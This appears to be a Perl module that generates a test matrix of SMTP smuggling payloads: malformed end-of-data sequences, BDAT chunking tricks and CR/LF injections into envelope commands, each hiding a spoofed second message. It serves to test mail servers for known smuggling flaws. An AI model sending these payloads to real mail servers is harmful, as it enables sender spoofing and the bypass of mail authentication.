# Smuggle/Variants.pm: the matrix.  Everything that somebody, somewhere, might
# take for the end of a message, inside one message.
#
# variants($domain) gives all, always in the same order and with the same names:
#   id, name, group     its place in the matrix, what it is
#   known               one of the published attacks: in every sample
#   want                how many messages RFC 5321 and 3030 see in it; undef: one or none
#   control             there is more than one for everybody, to see that two would be seen;
#   two                 ... unless the server minds that the client does not wait
#   kind => data        {content} is sent after 354, with the final dot behind it
#   kind => bdat        {content} is sent instead of DATA; {text} is the content of the message
#   kind => mail        {helo}, {mail}, {rcpt} are said before an innocent message
#   cut, bytes          send up to there, wait until it was read, send the rest; send byte by byte
# The sender is vID@a.test, that of a message inside the message eID@evil.test.
package Smuggle::Variants;
use strict;
use warnings;
use Exporter 'import';
use Math::BigInt;
our @EXPORT_OK = qw(variants sample lines_of ends_strict ends_loose);

# ---- the alphabet ----

my %end = (
    CRLF => "\r\n", LF => "\n", CR => "\r", CRCRLF => "\r\r\n", LFCR => "\n\r", LFLF => "\n\n", CRCR => "\r\r", CRNULLF => "\r\0\n", NULLF => "\0\n", CRLFNUL => "\r\n\0",
    VT => "\x0b", FF => "\x0c", CRVTLF => "\r\x0b\n", NEL => "\xc2\x85", NEL8 => "\x85", LS => "\xe2\x80\xa8", PS => "\xe2\x80\xa9", CRSPLF => "\r \n", OVERLONG => "\xc0\x8d\xc0\x8a",
);
my @ends = sort keys %end;
my %dot = (dot => '.', dotdot => '..', dotspace => '. ', dotnul => ".\0", spacedot => ' .', dottab => ".\t", nuldot => "\0.", fulldot => "\xef\xbc\x8e");
my @worst = ('LF dot LF', 'LF dot CRLF', 'CRLF dot LF', 'CR dot CR', 'CRLF dot CR', 'CR dot CRLF', 'CRLF dot CRCRLF', 'LFCR dot LFCR', 'CRLF dot NULLF', 'CRLF dot CRNULLF');
# CVE-2023-51764, -51765, -51766 and the advisories around them; CR as an end in old relays.
my %known = map { $_ => 1 } @worst, 'CRCRLF dot CRCRLF', 'LF dot CR', 'CR dot LF', 'CRLF dotnul CRLF', 'CRLF dotdot CRLF';

# ---- what follows the sequence ----

my ($domain, @all);
sub transaction { my ($id, $nl) = @_; return join $nl, "MAIL FROM:<e$id\@evil.test>", "RCPT TO:<evil\@$domain>", 'DATA', 'Subject: evil', '', "smuggled $id" }
my %follow = (
    mail => sub { transaction($_[0], "\r\n") },
    mailLF => sub { transaction($_[0], "\n") },
    mailCR => sub { transaction($_[0], "\r") },
    ehlo => sub { "EHLO evil.test\r\nRSET\r\n" . transaction($_[0], "\r\n") },
    bdat => sub { my $m = "Subject: evil\r\n\r\nsmuggled $_[0]\r\n"; transaction($_[0], "\r\n") =~ s/DATA.*//sr . 'BDAT ' . length($m) . " LAST\r\n$m" },
    twice => sub { join $_[1], (transaction($_[0], "\r\n")) x 2, '' },
    quit => sub { "QUIT\r\n" },
    text => sub { 'only text' },
    nothing => sub { '' },
);

sub head { my ($id) = @_; return "From: v$id\@a.test\r\nTo: r\@b.test\r\nDate: Thu, 01 Jan 2026 00:00:00 +0000\r\nMessage-ID: <v$id\@a.test>\r\n" }
sub message { my ($id, $seq, $tail) = @_; return head($id) . "Subject: variant\r\n\r\nbegin$seq$tail\r\nthe end of $id\r\n" }

# ---- how others read, as plain as can be ----

# Where the content ends for who reads RFC 5321: behind the first CRLF.CRLF (the CRLF of DATA counts).
sub ends_strict { my ($bytes) = @_; return "\r\n$bytes" =~ /\r\n\.\r\n/ ? $+[0] - 2 : undef }
# For who reads as of old: an LF ends a line, CRs before it are not looked at.
sub ends_loose { my ($bytes) = @_; return $bytes =~ /(?:\A|\n)\.\r*\n/ ? $+[0] : undef }

# The lines that are to be kept: a lone dot that is, or follows, a bare LF is no
# line; a leading dot is transport's (not so with BDAT); a stray CR is a blank.
sub lines_of {
    my ($bytes, $dots) = @_;
    my ($bare_before, @lines) = (0);
    while ($bytes =~ /\G([^\n]*?)(\r?\n|\z)/g) {
        my ($line, $end) = ($1, $2);
        last if $end eq '' && $line eq '';
        my $bare = $end eq "\n";
        my $dropped = $dots && $line eq '.' && ($bare || $bare_before);
        $bare_before = $bare;
        next if $dropped;
        $line =~ s/\A\.// if $dots;
        push @lines, $line =~ tr/\r/ /r;
        last if $end eq '';
    }
    return @lines;
}

# ---- building ----

# content: a function of the id.
sub add {
    my (%v) = @_;
    $v{id} = @all;
    $v{$_} = $v{$_}->($v{id}) for grep { ref $v{$_} } qw(content text mail rcpt cut);
    push @all, { want => 1, known => 0, %v };
    return $all[-1];
}

# One variant of DATA; seq: "BEFORE DOT AFTER", by the names of above.
sub data {
    my ($where, $seq, $follow, %more) = @_;
    my ($before, $dot, $after) = split / /, $seq;
    my $bytes = $end{$before} . $dot{$dot} . $end{$after};
    my $known = $known{$seq} && "$where $follow" eq 'body mail' && !%more;
    my %make = (
        body => sub { message($_[0], $bytes, $follow{$follow}->($_[0], $bytes)) },
        head => sub { head($_[0]) . "X-Begin: here$bytes" . $follow{$follow}->($_[0], $bytes) . "\r\n\r\nthe end of $_[0]\r\n" },
        start => sub { ($bytes =~ s/\A[\r\n]+//r) . $follow{$follow}->($_[0], $bytes) . "\r\nthe end of $_[0]\r\n" },
    );
    my $content = $make{$where};
    if (my $at = delete $more{border}) {
        $content = sub { my $m = $make{body}->($_[0]); my $more = $at - index($m, "begin$bytes") - 5; $m =~ s/begin\Q$bytes/'begin' . substr(('x' x 62 . "\r\n") x 2000, -$more) . $bytes/er };
    }
    my $name = "data $where: $seq, $follow" . (delete($more{also}) // '');
    my $v = add(group => 'data', kind => 'data', name => $name, content => $content, where => $where, follow => $follow, bytes_of => $bytes, known => $known, exact => $where eq 'body', %more);
    @$v{qw(want control two)} = (undef, 1, $after eq 'CRLF') if ends_strict($v->{content});
    return $v;
}

sub data_variants {
    for my $b (@ends) { data('body', "$b dot $_", 'mail') for @ends }
    for my $d (grep { $_ ne 'dot' } sort keys %dot) { data('body', "$_->[0] $d $_->[1]", 'mail') for ['CRLF', 'CRLF'], ['LF', 'LF'], ['CR', 'CR'], ['LF', 'CRLF'], ['CRLF', 'LF'] }
    for my $where (qw(head start)) { data($where, $_, 'mail') for @worst, 'CRLF dotdot CRLF', 'CRLF dotspace CRLF', 'CRLF dotnul CRLF', 'CRLF spacedot CRLF' }
    for my $f (grep { $_ ne 'mail' } sort keys %follow) { data('body', $_, $f) for @worst[0 .. 6] }
    # Borders of buffers, and packets: cut at each byte in and around the sequence.
    for my $at (4096, 16384, 65536) {
        for my $k (-2 .. 2) { data('body', $_, 'mail', border => $at + $k, also => sprintf ', at %d%+d', $at, $k) for 'LF dot LF', 'CRLF dot CR', 'CRLF dotdot CRLF' }
    }
    for my $seq ('LF dot LF', 'CRLF dot CR', 'CR dot CRLF', 'CRLF dot CRCRLF', 'LF dot CRLF', 'CRLF dotdot CRLF') {
        my $v = data('body', $seq, 'mail', also => ', byte by byte', bytes => 1);
        data('body', $seq, 'mail', also => ", cut at $_", cut => do { my $k = $_; sub { index(message($_[0], $v->{bytes_of}, ''), "begin$v->{bytes_of}") + 5 + $k } }) for 0 .. length $v->{bytes_of};
    }
    return;
}

# ---- BDAT ----

sub chunk { my ($bytes, $last) = @_; return 'BDAT ' . length($bytes) . ($last ? ' LAST' : '') . "\r\n$bytes" }

# stream: a function of (id, message).
sub bdat {
    my ($name, $seq, $stream, %more) = @_;
    my ($before, $dot, $after) = split / /, $seq;
    my $bytes = $end{$before} . $dot{$dot} . $end{$after};
    my $text = sub { message($_[0], $bytes, $follow{mail}->($_[0]) . "\r\n.\r\n" . $follow{bdat}->($_[0])) };
    return add(group => 'bdat', kind => 'bdat', name => "bdat: $name", text => $text, content => sub { $stream->($_[0], $text->($_[0]), $bytes) }, %more);
}

my @syntax = (                                 # how the command may be written; how many messages we see
    [1, 'BDAT %d LAST', 'bdat %d last', 'Bdat %d Last', 'BDAT  %d   LAST', "BDAT\t%d\tLAST", 'BDAT %d LAST ', "BDAT %d LAST\t", ' BDAT %d LAST', 'BDAT 000%d LAST', 'BDAT 000000000000000000000000%d LAST'],
    [0, 'BDAT +%d LAST', 'BDAT -%d LAST', 'BDAT 0x%x LAST', 'BDAT 0b%d LAST', 'BDAT 0o%d LAST', 'BDAT %d.0 LAST', 'BDAT %d, LAST', 'BDAT %d LAST LAST', 'BDAT %dLAST', 'BDAT LAST %d', 'BDAT LAST', 'BDAT', 'BDAT ',
        'BDAT %d FIRST', "BDAT %d\0 LAST", "BDAT %d LAST\0", "BDAT\0%d LAST", 'BDAT 1e3 LAST', 'BDAT %d LASTX', 'BDAT "%d" LAST', 'BDAT <%d> LAST', 'BDAT:%d LAST', "BDAT %d\x0bLAST\x85", "BDAT \xef\xbc\x91 LAST",
        'BDAT 2^32+ LAST', 'BDAT 2^63+ LAST', 'BDAT 2^64+ LAST', 'BDAT 2^128+ LAST', 'BDAT 99999999999 LAST', 'BDAT -1 LAST', 'BDAT 99999999999999999999999999999999999999 LAST'],
    [undef, "BDAT %d\rLAST", "BDAT %d LAST\r", "BDAT %d\x0bLAST", "BDAT\r%d LAST", "B\0DAT %d LAST", 'BDATA %d LAST'],
);

sub shown { my ($s) = @_; return $s =~ s/([^!-~ ])/sprintf '\x%02x', ord $1/ger }

sub bdat_syntax {
    for my $row (@syntax) {
        my ($want, @forms) = @$row;
        for my $form (@forms) {
            bdat(shown($form), 'LF dot LF', sub {
                my ($id, $m) = @_;
                my $n = length $m;
                my $command = $form =~ s/2\^(\d+)\+/Math::BigInt->new(2)->bpow($1)->badd($n)->bstr/er;
                return sprintf($command, $command =~ /%/ ? $n : ()) . "\r\n$m";
            }, want => $want);
        }
    }
    for my $e (qw(LF CR CRCRLF LFCR NULLF CRNULLF)) { bdat("$e ends the command", 'CRLF dot CRLF', sub { chunk($_[1], 1) =~ s/\r\n/$end{$e}/r }, want => undef) }
    return;
}

# The same content in chunks: whole, with an empty last one, cut at each byte in and around the sequence, in bytes.
sub bdat_chunks {
    for my $seq (@worst, 'CRLF dot CRLF', 'CRCRLF dot CRCRLF', 'CRLF dotdot CRLF') {
        my @more = (exact => 1);
        my $in = sub { my ($m, $bytes) = @_; return index($m, "begin$bytes") + 5 };
        bdat("$seq, one chunk", $seq, sub { chunk($_[1], 1) }, known => $seq eq 'LF dot LF' || $seq eq 'CRLF dot CRLF', @more);
        bdat("$seq, BDAT 0 LAST", $seq, sub { chunk($_[1]) . chunk('', 1) }, @more);
        bdat("$seq, chunks of one byte", $seq, sub { join '', map({ chunk($_) } split //, $_[1]), chunk('', 1) }, @more) if $seq =~ /^CRLF dot/;
        my ($b, $d, $a) = split / /, $seq;
        for my $k (0 .. length "$end{$b}$dot{$d}$end{$a}") {
            bdat("$seq, chunks cut at $k", $seq, sub { my $at = $in->(@_[1, 2]) + $k; chunk(substr $_[1], 0, $at) . chunk(substr($_[1], $at), 1) }, @more);
        }
    }
    return;
}

sub bdat_sequences {
    my $s = 'CRLF dot CRLF';
    my $half = sub { my ($m) = @_; my $at = index($m, 'begin'); return (substr($m, 0, $at), substr $m, $at) };
    bdat('0 first', $s, sub { "BDAT 0\r\n" . chunk($_[1], 1) }, want => 0);
    bdat('0 in between', $s, sub { my ($a, $b) = $half->($_[1]); chunk($a) . "BDAT 0\r\n" . chunk($b, 1) }, want => 0);
    bdat('0 LAST alone', $s, sub { chunk('', 1) }, text => sub { '' });
    bdat('LAST twice', $s, sub { chunk($_[1], 1) x 2 }, known => 1);
    bdat('LAST twice, the second empty', $s, sub { chunk($_[1], 1) . chunk('', 1) });
    bdat('a chunk, then DATA', $s, sub { my ($a, $b) = $half->($_[1]); chunk($a) . "DATA\r\n$b.\r\n" }, want => 0, known => 1, eager => 1);
    bdat('a chunk, then DATA and RSET', $s, sub { my ($a, $b) = $half->($_[1]); chunk($a) . "DATA\r\nRSET\r\n$b.\r\n" }, want => 0);
    bdat('RSET in between', $s, sub { my ($a, $b) = $half->($_[1]); chunk($a) . "RSET\r\n" . chunk($b, 1) }, want => 0, known => 1);
    bdat('RSET behind', $s, sub { my ($a, $b) = $half->($_[1]); chunk($a) . chunk($b, 1) . "RSET\r\n" . chunk($b, 1) });
    bdat('MAIL and RCPT in between', $s, sub { my ($a, $b) = $half->($_[1]); chunk($a) . ($follow{mail}->($_[0]) =~ s/DATA.*//sr) . chunk($b, 1) }, known => 1);
    bdat('EHLO in between', $s, sub { my ($a, $b) = $half->($_[1]); chunk($a) . "EHLO x.test\r\n" . chunk($b, 1) }, want => 0);
    bdat('NOOP in between', $s, sub { my ($a, $b) = $half->($_[1]); chunk($a) . "VRFY x\r\n" . chunk($b, 1) }, want => undef);
    bdat('an unknown command in between', $s, sub { my ($a, $b) = $half->($_[1]); chunk($a) . "XYZZY\r\n" . chunk($b, 1) });
    bdat('QUIT in between', $s, sub { my ($a, $b) = $half->($_[1]); chunk($a) . "QUIT\r\n" . chunk($b, 1) }, want => 0);
    bdat('a bad size in between', $s, sub { my ($a, $b) = $half->($_[1]); chunk($a) . "BDAT x\r\n$b" }, want => 0);
    bdat("size off by $_", $s, do { my $k = $_; sub { sprintf "BDAT %d LAST\r\n%s", $k + length $_[1], $_[1] } }, want => $_ < 7 ? 1 : 0, known => abs == 1) for -2, -1, 1, 2, 5, 6, 7, 100;
    bdat("the first size off by $_", $s, do { my $k = $_; sub { my ($a, $b) = $half->($_[1]); sprintf("BDAT %d\r\n%s", $k + length $a, $a) . chunk($b, 1) } }, want => undef, text => sub { '' }) for -2, -1, 1, 2;
    bdat('cut short', $s, sub { substr(chunk($_[1], 1), 0, -20) }, want => 0, short => 1);
    bdat('no recipient', $s, sub { chunk($_[1], 1) }, rcpt => sub { ['RCPT TO:<>'] }, want => 0, known => 1);
    bdat('no transaction', $s, sub { chunk($_[1], 1) }, mail => sub { 'RSET' }, want => 0, known => 1);
    # A chunk that is only passed over, and begins with commands: a header would end the session of who reads it as one.
    my $commands = sub { chunk("RSET\r\n" . $follow{bdat}->($_[0]), $_[1]) };
    bdat('commands, no recipient', $s, sub { $commands->($_[0], 1) }, rcpt => sub { ['RCPT TO:<>'] }, want => 0, known => 1);
    bdat('commands, no transaction', $s, sub { $commands->($_[0], 1) }, mail => sub { 'RSET' }, want => 0, known => 1);
    bdat('commands, RSET in between', $s, sub { chunk(($half->($_[1]))[0]) . "RSET\r\n" . $commands->($_[0], 1) }, want => 0);
    bdat('commands, after 0', $s, sub { "BDAT 0\r\n" . $commands->($_[0]) . $commands->($_[0], 1) }, want => 0);
    bdat('commands, behind LAST', $s, sub { chunk($_[1], 1) . $commands->($_[0], 1) });
    bdat('SIZE too small', $s, sub { chunk($_[1], 1) }, mail => sub { "MAIL FROM:<v$_[0]\@a.test> SIZE=5" });
    bdat('SIZE too large', $s, sub { chunk($_[1], 1) }, mail => sub { "MAIL FROM:<v$_[0]\@a.test> SIZE=99999999999" }, want => 0);
    bdat('BODY=BINARYMIME', $s, sub { chunk($_[1], 1) }, mail => sub { "MAIL FROM:<v$_[0]\@a.test> BODY=BINARYMIME" }, want => undef);
    bdat('LAST inside', $s, sub { my ($a, $b) = $half->($_[1]); chunk($a . chunk($b, 1)) . chunk('', 1) }, text => sub { 'begin' });
    bdat('chunks inside a chunk', $s, sub { chunk($_[1] . chunk($_[1], 1) . chunk($_[1], 1), 1) });
    bdat('two transactions', $s, sub { chunk($_[1], 1) . $follow{bdat}->($_[0]) }, control => 1, two => 1, want => undef);
    return;
}

# ---- the envelope ----

sub mail_variants {
    my %add = (CR => "\r", NUL => "\0", LS => "\xe2\x80\xa8", NEL => "\xc2\x85", VT => "\x0b", LF => "\n");
    my $inject = sub { my ($e, $id) = @_; return "${e}RCPT TO:<evil\@$domain>${e}DATA${e}" };
    my @xtext = ('a+0D+0ADATA+0D+0Ax', 'a+0ADATA+0Ax', 'a+0DDATA+0Dx', 'a+00x', 'a+20x', 'a+3E+0D+0ARSET+0D+0A', 'a+0d+0a.+0d+0a', 'a+E2+80+A8x', 'a+', 'a+G0', 'a+0');
    for my $e (sort keys %add) {
        my $b = $add{$e};
        add(group => 'mail', kind => 'mail', want => undef, name => "mail: $e in the sender, quoted", mail => sub { "MAIL FROM:<\"v$_[0]" . $inject->($b, $_[0]) . '"@a.test>' });
        add(group => 'mail', kind => 'mail', want => undef, name => "mail: $e in the sender", mail => sub { "MAIL FROM:<v$_[0]${b}x\@a.test>" });
        add(group => 'mail', kind => 'mail', want => undef, name => "mail: $e behind the sender", mail => sub { "MAIL FROM:<v$_[0]\@a.test>${b}MAIL FROM:<e$_[0]\@evil.test>" });
        add(group => 'mail', kind => 'mail', want => undef, name => "mail: $e in a recipient, quoted", rcpt => sub { ["RCPT TO:<\"r${b}DATA${b}x\"\@$domain>"] });
        add(group => 'mail', kind => 'mail', want => undef, name => "mail: $e in a parameter", rcpt => sub { ["RCPT TO:<r\@$domain> ORCPT=rfc822;a${b}DATA${b}"] });
        add(group => 'mail', kind => 'mail', want => undef, name => "mail: $e in the name of the client", helo => "client.test${b}DATA${b}");
    }
    for my $x (@xtext) {
        add(group => 'mail', kind => 'mail', want => undef, name => "mail: ENVID=$x", mail => sub { "MAIL FROM:<v$_[0]\@a.test> RET=HDRS ENVID=$x" });
        add(group => 'mail', kind => 'mail', want => undef, name => "mail: ORCPT=$x", rcpt => sub { ["RCPT TO:<r\@$domain> NOTIFY=SUCCESS,FAILURE ORCPT=rfc822;$x"] });
    }
    return;
}

sub variants {
    ($domain) = @_;
    @all = ();
    data_variants();
    bdat_chunks();
    bdat_syntax();
    bdat_sequences();
    mail_variants();
    return @all;
}

# The known ones and, up to n, every so many-th of the others; another offset, others.
sub sample {
    my ($n, $offset, @from) = @_;
    my @known = grep { $_->{known} } @from;
    my @rest = grep { !$_->{known} } @from;
    my $more = $n - @known;
    my %take = map { $_->{id} => 1 } @known, map { $rest[($offset + int($_ * @rest / $more)) % @rest] } 0 .. $more - 1;
    return grep { $take{ $_->{id} } } @from;
}

1;
